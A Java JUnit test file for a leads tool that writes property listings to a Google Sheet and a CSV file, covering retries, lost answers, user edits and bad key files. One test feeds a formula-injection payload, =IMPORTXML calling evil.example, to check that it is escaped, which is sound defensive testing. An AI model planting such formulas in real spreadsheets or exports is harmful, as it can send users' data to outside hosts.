package com.developmentleads.daily;

import static com.developmentleads.daily.Models.NO;
import static com.developmentleads.daily.Models.YES;
import static com.developmentleads.daily.SearchService.home;
import static org.assertj.core.api.Assertions.assertThat;

import com.developmentleads.daily.Loopback.Answer;
import com.developmentleads.runtime.LeadsRuntime;
import com.developmentleads.sandbox.RequestLog;
import com.developmentleads.sandbox.Sandbox;
import com.developmentleads.testing.ApiRequest;
import com.developmentleads.testing.FaultCase;
import com.developmentleads.testing.LeadsTest;
import com.developmentleads.testing.TestInstallation;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.icegreen.greenmail.util.GreenMailUtil;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The sheet, written by the real Google client into a stand-in that keeps the API's rules, and leads.csv. */
@Tag("slow")
@LeadsTest
class PublishTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final LocalDate MONDAY = LocalDate.of(2026, 11, 23);
    private static final LocalDate TUESDAY = MONDAY.plusDays(1);
    private static final List<String> HEADER = List.of(
            "Date",
            "Address",
            "Price",
            "Lot size",
            "Year built",
            "Label",
            "Confidence",
            "Snippet",
            "Link",
            "Source",
            "Status",
            "Model",
            "Key",
            "Verdict",
            "Notes",
            "Lot sqft",
            "Score",
            "Facts",
            "Why");

    private DailyRunFixture morning;

    private Path csv() {
        return morning.place.data().resolve("leads.csv");
    }

    private List<List<String>> sheet() {
        return tab().all();
    }

    private SheetRows tab() {
        return new SheetRows(morning.sheetFile());
    }

    private List<RequestLog.Entry> calls(String part) {
        return morning.google().requests().entries("sheets").stream()
                .filter(call -> (call.method() + " " + call.path()).contains(part))
                .toList();
    }

    @Test
    void a_back_fill_changes_the_sheet_and_tells_nothing_again() throws Exception {
        morning.withSheet().withMail().finds(home(1, "teardown"), home(2, "charming"), home(3, "new"));
        assertThat(morning.daily().code()).isZero();
        List<List<String>> before = sheet();
        assertThat(before).hasSize(2);
        Map<String, Object> answers = morning.row("select group_concat(label || model) as said from answers");
        morning.models.saying(text -> text.contains("new") ? NO : YES);

        TestInstallation.Result made = morning.place.run("backfill", "--yes");
        assertThat(made.out()).contains("1 labels; 2 leads");
        assertThat(sheet()).as("until the next run").isEqualTo(before);
        TestInstallation.Result next = morning.daily("--location", "Newton Upper Falls, MA");

        assertThat(next.code()).as("nothing to classify: %s", next.all()).isEqualTo(3);
        assertThat(sheet()).hasSize(3);
        assertThat(sheet().get(1)).as("what was told").isEqualTo(before.get(1));
        assertThat(sheet().get(2).get(1)).startsWith("2 Example St");
        assertThat(TestInstallation.read(csv())).contains("1 Example St", "2 Example St");
        assertThat(morning.row("select group_concat(label || model) as said from answers"))
                .as("what the daily run was answered")
                .isEqualTo(answers);
        assertThat(morning.mails().stream().map(GreenMailUtil::getBody))
                .filteredOn(body -> body.contains("1 Example St"))
                .as("one digest tells it")
                .hasSize(1);
        assertThat(morning.mails().stream().map(GreenMailUtil::getBody))
                .noneMatch(body -> body.contains("2 Example St"));
    }

    private static SearchService.Result[] homes(int from, int to) {
        return IntStream.rangeClosed(from, to)
                .mapToObj(n -> home(n, "teardown"))
                .toArray(SearchService.Result[]::new);
    }

    @Test
    void the_tab_is_made_gets_a_header_and_one_row_a_lead() {
        morning.withSheet()
                .finds(home(1, "teardown, built in 1948, 0.3 acre lot"), home(2, "charming"), home(3, "teardown"));
        morning.models.withLogprobs(-0.25);

        TestInstallation.Result result = morning.daily();

        assertThat(result.err()).isEmpty();
        assertThat(result.code()).isZero();
        List<List<String>> rows = sheet();
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).isEqualTo(HEADER);
        assertThat(tab().tab(tab().document()).path("frozenRowCount").asInt()).isEqualTo(1);
        assertThat(rows.get(1).subList(1, 13))
                .containsExactly(
                        "1 Example St, Newton, MA 02458",
                        "700001",
                        "0.3 acres",
                        "1948",
                        YES,
                        "0.779",
                        "For sale: $700001, 3 beds, 1 bath house, teardown, built in 1948, 0.3 acre lot",
                        "https://www.zillow.com/homedetails/1-Example-St-Newton-MA-02458/1_zpid/",
                        "zillow",
                        "for_sale",
                        "gpt-6-luna",
                        "1 example st newton ma");
        assertThat(rows.get(1).get(0)).matches("\\d{4}-\\d{2}-\\d{2}");
        assertThat(tab().tab(tab().document()).path("rows").get(1).get(2).isNumber())
                .isTrue();
        assertThat(rows.get(1).subList(13, 15))
                .as("Verdict and Notes are the owner's")
                .containsOnly("");
        assertThat(calls("values:batchUpdate"))
                .as("header and rows of both tabs")
                .hasSize(4);
        assertThat(calls(":append")).isEmpty();
    }

    @Test
    void nothing_is_written_twice_and_nothing_at_all_when_nothing_is_new() {
        morning.withSheet().finds(homes(1, 3));
        morning.daily();
        int writes = writes();

        assertThat(morning.daily().code()).isEqualTo(3);
        assertThat(writes()).isEqualTo(writes);

        morning.finds(homes(1, 5));
        assertThat(morning.daily().code()).isZero();
        assertThat(sheet()).hasSize(6);
        assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
    }

    private int writes() {
        return (int) morning.google().requests().entries("sheets").stream()
                .filter(call -> !call.method().equals("GET"))
                .count();
    }

    @FaultCase(
            where = FaultCase.Where.SEARCH,
            fault = "Texts that are formulas",
            then = "text in the sheet, quoted in the CSV file")
    @Test
    void texts_that_look_like_formulas_stay_texts_in_sheet_and_csv() throws IOException {
        String formula = "=IMPORTXML(\"http://evil.example\",\"//a\") teardown";
        morning.withSheet()
                .finds(
                        new SearchService.Result(
                                home(1, "").title(), home(1, "").link(), formula),
                        new SearchService.Result(
                                home(2, "").title(), home(2, "").link(), "+1 teardown, \"quoted\", two\nlines"),
                        new SearchService.Result(
                                home(3, "").title(), home(3, "").link(), "@SUM(1) teardown"),
                        new SearchService.Result(
                                home(4, "").title(), home(4, "").link(), "-2+3 teardown"),
                        new SearchService.Result(
                                home(5, "").title(), home(5, "").link(), "＝1+1 teardown"));

        assertThat(morning.daily().code()).isZero();

        assertThat(sheet().stream().map(row -> row.get(7)).toList()).contains(formula);
        assertThat(morning.rows("select snippet from property_scans"))
                .extracting(row -> row.get("snippet"))
                .contains(formula);
        List<String> lines = Files.readAllLines(csv());
        assertThat(lines.get(0))
                .isEqualTo("Date,Address,Price,Lot size,Year built,Label,Confidence,Snippet,Link,Source,"
                        + "Status,Model,Key,Verdict,Notes,Lot sqft,Score,Facts,Why");
        assertThat(lines)
                .hasSize(6)
                .anyMatch(line -> line.contains("'＝1+1") || line.contains("'=1+1"))
                .filteredOn(line -> line.contains(",\"=")
                        || line.contains(",=")
                        || line.contains(",+")
                        || line.contains(",\"+")
                        || line.contains(",@")
                        || line.contains(",-"))
                .isEmpty();
        assertThat(String.join("\n", lines))
                .contains(
                        "'=IMPORTXML(\"\"http://evil.example\"\"", "'+1 teardown, \"\"quoted\"\"", "'@SUM(1)", "'-2+3");
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "A person sorts, inserts and annotates rows",
            then = "each lead is found by its key; the cells of the person stay")
    @Test
    void a_changed_lead_is_found_wherever_a_person_put_its_row_and_the_persons_cells_stay() {
        morning.withSheet().finds(homes(1, 4));
        try (LeadsRuntime runtime = morning.start()) {
            DailyRunFixture.run(runtime, "monday", MONDAY);
            tab().edit(rows -> {
                List<JsonNode> sorted = new ArrayList<>(rows.subList(1, 5));
                java.util.Collections.reverse(sorted);
                sorted.forEach(row -> {
                    while (row.size() < 15) {
                        ((ArrayNode) row).add("");
                    }
                    ((ArrayNode) row).set(13, "verdict on " + row.get(1).asText());
                    ((ArrayNode) row).set(14, "seen it");
                });
                sorted.add(1, JSON.createArrayNode());
                sorted.add(2, JSON.createArrayNode().add("call the broker"));
                sorted.add(0, rows.get(0));
                return sorted;
            });

            morning.finds(
                    home(1, "teardown"),
                    home(2, 555_000, "teardown, price cut"),
                    home(3, "teardown"),
                    home(4, 444_000, "charming after all"),
                    home(5, "teardown"));
            assertThat(DailyRunFixture.run(runtime, "tuesday", TUESDAY))
                    .extracting("state")
                    .isEqualTo("succeeded");
        }
        List<List<String>> rows = sheet();
        assertThat(rows.stream().filter(row -> row.size() > 12).map(row -> row.get(12)))
                .containsExactlyInAnyOrder(
                        "Key",
                        "4 example st newton ma",
                        "3 example st newton ma",
                        "2 example st newton ma",
                        "1 example st newton ma",
                        "5 example st newton ma");
        for (int number = 1; number <= 4; number++) {
            String address = number + " Example St, Newton, MA 02458";
            assertThat(row(rows, address).subList(13, 15)).containsExactly("verdict on " + address, "seen it");
        }
        assertThat(row(rows, "2 Example St, Newton, MA 02458").subList(2, 3)).containsExactly("555000");
        assertThat(row(rows, "2 Example St, Newton, MA 02458").get(7)).contains("price cut");
        assertThat(row(rows, "4 Example St, Newton, MA 02458").get(5)).isEqualTo(NO);
        assertThat(row(rows, "1 Example St, Newton, MA 02458").get(2)).isEqualTo("700001");
        assertThat(rows).anyMatch(row -> !row.isEmpty() && row.get(0).equals("call the broker"));
        assertThat(calls("values:batchUpdate")).as("the header, two days").hasSize(3);
        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                .hasSize(5);
    }

    private static List<String> row(List<List<String>> rows, String address) {
        return rows.stream()
                .filter(row -> row.size() > 1 && row.get(1).equals(address))
                .findFirst()
                .orElseThrow();
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "A person deletes a row",
            then = "it comes back only when its lead changes")
    @Test
    void a_row_that_a_person_deleted_comes_back_only_when_its_lead_changes() {
        morning.withSheet().finds(homes(1, 3));
        try (LeadsRuntime runtime = morning.start()) {
            DailyRunFixture.run(runtime, "monday", MONDAY);
            tab().edit(rows -> List.of(rows.get(0), rows.get(1), rows.get(3)));
            DailyRunFixture.run(runtime, "tuesday", TUESDAY);
            assertThat(sheet()).hasSize(3);

            morning.finds(home(1, "teardown"), home(2, 500_000, "teardown"), home(3, "teardown"));
            DailyRunFixture.run(runtime, "wednesday", TUESDAY.plusDays(1));
        }
        assertThat(sheet()).hasSize(4);
        assertThat(row(sheet(), "2 Example St, Newton, MA 02458").get(2)).isEqualTo("500000");
        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                .hasSize(3);
    }

    /** Google, behind something that may lose its answers. */
    private Loopback between(UnaryOperator<Answer> answer) {
        morning.withSheet();
        Loopback proxy = between(morning.google().baseUrl(), answer);
        morning.withSheetAt(proxy.url() + "/sheets/");
        return proxy;
    }

    static Loopback between(String target, UnaryOperator<Answer> answer) {
        HttpClient client = HttpClient.newHttpClient();
        return new Loopback(request -> forward(client, target, request, answer));
    }

    /** Rows, not the header, which a first run writes before them. */
    private static boolean isWriteOfRows(ApiRequest request) {
        return request.path().endsWith("/values:batchUpdate")
                && !unzipped(request).contains("\"Verdict\"");
    }

    private static String unzipped(ApiRequest request) {
        try (InputStream in = new GZIPInputStream(new ByteArrayInputStream(request.body()))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    static Answer forward(HttpClient client, String target, ApiRequest request, UnaryOperator<Answer> change)
            throws Exception {
        HttpRequest.Builder forwarded = HttpRequest.newBuilder(
                        URI.create(target + request.path() + (request.query() == null ? "" : "?" + request.query())))
                .method(request.method(), HttpRequest.BodyPublishers.ofByteArray(request.body()))
                .header("Authorization", request.header("authorization"));
        if (request.headers().containsKey("content-type")) {
            forwarded.header("Content-Type", request.header("content-type"));
        }
        if (request.headers().containsKey("content-encoding")) {
            forwarded.header("Content-Encoding", request.header("content-encoding"));
        }
        HttpResponse<byte[]> response = client.send(forwarded.build(), HttpResponse.BodyHandlers.ofByteArray());
        Answer answer = new Answer(response.statusCode(), "application/json", response.body(), Map.of());
        return isWriteOfRows(request) ? change.apply(answer) : answer;
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "The answer to a write of rows is lost",
            then = "one write; the next run finds the rows and adds none twice")
    @Test
    void when_the_answer_to_a_write_is_lost_the_next_run_finds_the_rows_and_adds_none_twice() {
        boolean[] lossy = {true};
        try (Loopback proxy = between(answer -> lossy[0] ? null : answer)) {
            morning.finds(homes(1, 3));

            TestInstallation.Result result = morning.daily();

            assertThat(result.code()).isEqualTo(1);
            assertThat(result.err())
                    .contains("publish: ")
                    .contains("nothing is lost")
                    .hasLineCount(1);
            assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
            assertThat(proxy.requests().stream().filter(PublishTest::isWriteOfRows))
                    .hasSize(1);
            assertThat(sheet()).hasSize(4);
            assertThat(morning.rows("select * from deliveries")).isEmpty();

            lossy[0] = false;
            morning.daily();
            assertThat(sheet()).hasSize(4);
            assertThat(morning.rows("select * from deliveries where kind = 'sheet'"))
                    .hasSize(3);
        }
    }

    static Stream<Arguments> answersToAWrite() {
        return Stream.of(
                // the answer, the exit code
                Arguments.of("500", Answer.json(500, "{\"error\":{\"code\":500,\"message\":\"Internal error\"}}"), 1),
                Arguments.of("503", Answer.json(503, "{\"error\":{\"code\":503,\"message\":\"Busy\"}}"), 1),
                Arguments.of("502 and a page", Answer.html(502), 1),
                Arguments.of("429", Answer.json(429, "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\"}}"), 1),
                Arguments.of(
                        "400, no room for more rows",
                        Answer.json(
                                400,
                                "{\"error\":{\"code\":400,\"message\":\"This action would increase the number of cells\"}}"),
                        4),
                Arguments.of(
                        "401", Answer.json(401, "{\"error\":{\"code\":401,\"message\":\"Invalid credentials\"}}"), 4),
                Arguments.of("a page", Answer.html(200), 1));
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "A write of rows that was not done is answered with",
            then = "not repeated blindly; the leads wait, and the next run writes them once")
    @ParameterizedTest(name = "{0}")
    @MethodSource("answersToAWrite")
    void a_write_that_fails_leaves_the_leads_to_the_next_run(String name, Answer failure, int code) {
        Answer[] answer = {failure};
        morning.withSheet();
        String target = morning.google().baseUrl();
        HttpClient client = HttpClient.newHttpClient();
        try (Loopback proxy = new Loopback(request -> answer[0] != null && isWriteOfRows(request)
                ? answer[0]
                : forward(client, target, request, same -> same))) {
            morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));

            TestInstallation.Result result = morning.daily();

            assertThat(result.code()).isEqualTo(code);
            assertThat(result.err()).contains("publish: ").doesNotContain("<").hasLineCount(1);
            assertThat(proxy.requests().stream().filter(PublishTest::isWriteOfRows))
                    .hasSize(1);
            assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
            assertThat(morning.rows("select * from deliveries")).isEmpty();

            answer[0] = null;
            morning.daily();
            assertThat(sheet()).hasSize(3);
            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                    .hasSize(2);
        }
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "403, the sheet is not shared",
            then = "asked once; the leads wait")
    @Test
    void a_sheet_that_may_not_be_written_leaves_the_leads_to_the_next_run() {
        Answer[] refusal = {
            Answer.json(
                    HttpURLConnection.HTTP_FORBIDDEN,
                    "{\"error\":{\"code\":403,\"message\":\"The caller does not have permission\",\"status\":\"PERMISSION_DENIED\"}}")
        };
        morning.withSheet();
        String target = morning.google().baseUrl();
        HttpClient client = HttpClient.newHttpClient();
        try (Loopback proxy =
                new Loopback(request -> refusal[0] != null && request.method().equals("POST")
                        ? refusal[0]
                        : forward(client, target, request, answer -> answer))) {
            morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));

            TestInstallation.Result result = morning.daily();

            assertThat(result.code()).isEqualTo(4);
            assertThat(result.err())
                    .contains("HTTP 403, The caller does not have permission", "shared with the service account");
            assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
            assertThat(proxy.requests().stream()
                            .filter(request -> request.method().equals("POST")))
                    .hasSize(1);
            assertThat(morning.rows("select * from deliveries")).isEmpty();

            refusal[0] = null;
            morning.daily();
            assertThat(sheet()).hasSize(3);
        }
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "404, the spreadsheet is gone",
            then = "asked once; the leads wait and are in the CSV file")
    @Test
    void a_spreadsheet_that_is_not_there_is_told_and_asked_for_once_a_step() {
        morning.withSheet().set("sheets.spreadsheet-id", "gone-for-good").finds(homes(1, 1));

        TestInstallation.Result result = morning.daily();

        assertThat(result.code()).isEqualTo(4);
        assertThat(result.err())
                .contains("HTTP 404, Requested entity was not found.", "check that the spreadsheet is there");
        assertThat(morning.google().requests().entries("sheets")).hasSize(2);
        assertThat(csv()).exists();
        assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
        assertThat(morning.rows("select * from deliveries")).isEmpty();
        morning.set("sheets.spreadsheet-id", Sandbox.SPREADSHEET);
        morning.daily();
        assertThat(sheet()).hasSize(2);
    }

    @FaultCase(
            where = FaultCase.Where.SHEET,
            fault = "A person deletes the tab",
            then = "told; no other is made; the leads wait until it is there again, or an empty one")
    @Test
    void a_tab_that_a_person_deleted_is_missed_and_not_made_again() {
        morning.withSheet().finds(homes(1, 2));
        assertThat(morning.daily().code()).isZero();
        ObjectNode before = tab().document();
        ObjectNode without = tab().document();
        ArrayNode tabs = (ArrayNode)
                without.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs");
        tabs.removeIf(tab -> tab.path("title").asText().equals("Leads"));
        tab().write(without);
        morning.finds(homes(1, 3));
        int writes = writes();

        TestInstallation.Result result = morning.daily();

        assertThat(result.code()).isEqualTo(1);
        assertThat(result.err())
                .contains("the tab Leads with the leads is gone", "an empty tab of that name")
                .hasLineCount(1);
        assertThat(writes()).isEqualTo(writes);
        assertThat(morning.row("select * from runs order by id desc limit 1")).containsEntry("state", "partial");
        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                .hasSize(2);

        tab().write(before);
        morning.daily();
        assertThat(sheet()).hasSize(4);
        assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                .hasSize(3);
    }

    static Stream<Arguments> keyFiles() {
        String line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7canary";
        return Stream.of(
                Arguments.of("a key and nothing else", line),
                Arguments.of("half a document", "{\"type\":\"service_account\",\"private_key\":\"" + line),
                Arguments.of("no quotation marks", "{\"type\":\"service_account\",\"private_key\":" + line + "}"),
                Arguments.of(
                        "a key that is none",
                        "{\"type\":\"service_account\",\"client_id\":\"1\",\"client_email\":\"a@b\","
                                + "\"private_key_id\":\"1\",\"private_key\":\"" + line + "\"}"));
    }

    @FaultCase(
            where = FaultCase.Where.CONFIGURATION,
            fault = "A Google key file that holds",
            then = "exit code 2 and one line that names the file and shows nothing of it; nobody is asked")
    @ParameterizedTest(name = "{0}")
    @MethodSource("keyFiles")
    void a_key_file_that_is_none_is_named_and_not_shown(String name, String content) {
        Path file = morning.place.folder().resolve("bad-key.json");
        TestInstallation.write(file, content);
        morning.withSheet().set("sheets.key-file", file.toString()).finds(homes(1, 1));

        TestInstallation.Result result = morning.daily();

        assertThat(result.code()).isEqualTo(2);
        assertThat(result.err())
                .contains("bad-key.json", "GOOGLE_APPLICATION_CREDENTIALS")
                .doesNotContain("MIIEv")
                .hasLineCount(1);
        assertThat(TestInstallation.read(morning.place.log())).doesNotContain("MIIEv");
        assertThat(morning.search.requests()).isEmpty();
        assertThat(morning.rows("select * from runs")).isEmpty();
    }

    @FaultCase(where = FaultCase.Where.SHEET, fault = "429 for reads", then = "repeated; the leads are written once")
    @Test
    void a_busy_google_is_asked_again_for_what_only_reads() {
        int[] busy = {2};
        morning.withSheet();
        String target = morning.google().baseUrl();
        HttpClient client = HttpClient.newHttpClient();
        try (Loopback proxy = new Loopback(request -> busy[0]-- > 0
                ? Answer.json(
                        429,
                        "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\",\"status\":\"RESOURCE_EXHAUSTED\"}}")
                : forward(client, target, request, answer -> answer))) {
            morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));

            TestInstallation.Result result = morning.daily();

            assertThat(result.err()).isEmpty();
            assertThat(sheet()).hasSize(3);
            assertThat(calls("values:batchUpdate")).hasSize(2);
            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                    .hasSize(2);
        }
    }

    @Test
    void more_than_five_hundred_leads_are_written_in_batches() {
        morning.withSheet().finds(home(1, "teardown"));
        morning.daily();
        morning.place.execute("with recursive n(i) as (select 2 union all select i + 1 from n where i < 1201)"
                + " insert into property_scans (address, snippet, price, status, source, link, property_key, fingerprint, classified_fingerprint,"
                + " classification, label_source, first_seen) select i || ' Mass Ave', 'teardown', i, 'for_sale', 'zillow',"
                + " 'https://example.com/' || i, i || ' mass ave', 'f' || i, 'f' || i, '" + YES
                + "', 'model', '2026-11-01' from n");

        morning.daily();

        assertThat(sheet()).hasSize(1202);
        assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
        assertThat(calls("values:batchUpdate"))
                .as("the header, one day, three batches")
                .hasSize(1 + 1 + 3);
        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
                .hasSize(1201);
    }

    @Test
    void without_a_spreadsheet_google_is_not_asked_and_the_leads_are_in_the_file() throws IOException {
        morning.withSheet().set("sheets.spreadsheet-id", "").finds(homes(1, 2));

        TestInstallation.Result result = morning.daily();

        assertThat(result.code()).isZero();
        assertThat(morning.google().requests().entries()).isEmpty();
        assertThat(Files.readAllLines(csv())).hasSize(3);
        assertThat(result.out()).contains("2 leads in Newton, MA", "All leads are in " + csv());
    }

    @FaultCase(
            where = FaultCase.Where.MACHINE,
            fault = "leads.csv cannot be replaced",
            then = "told; whole at the next run")
    @Test
    void the_file_is_replaced_whole_or_stays_as_it_was() throws IOException {
        morning.finds(homes(1, 2));
        morning.daily();
        String before = Files.readString(csv(), StandardCharsets.UTF_8);
        Path inTheWay = csv();
        Files.delete(inTheWay);
        Files.createDirectory(inTheWay);
        TestInstallation.write(inTheWay.resolve("x"), "x");
        morning.finds(homes(1, 3));

        TestInstallation.Result result = morning.daily();

        assertThat(result.code()).isEqualTo(1);
        assertThat(result.err()).contains("publish");
        assertThat(morning.row("select * from runs order by id desc limit 1")).containsEntry("state", "partial");
        Files.delete(inTheWay.resolve("x"));
        Files.delete(inTheWay);
        morning.daily();
        assertThat(Files.readString(csv())).startsWith(before.substring(0, before.indexOf('\n')));
        assertThat(Files.readAllLines(csv())).hasSize(4);
        try (var files = Files.list(morning.place.data())) {
            assertThat(files.map(file -> file.getFileName().toString())).noneMatch(name -> name.contains("tmp"));
        }
    }
}
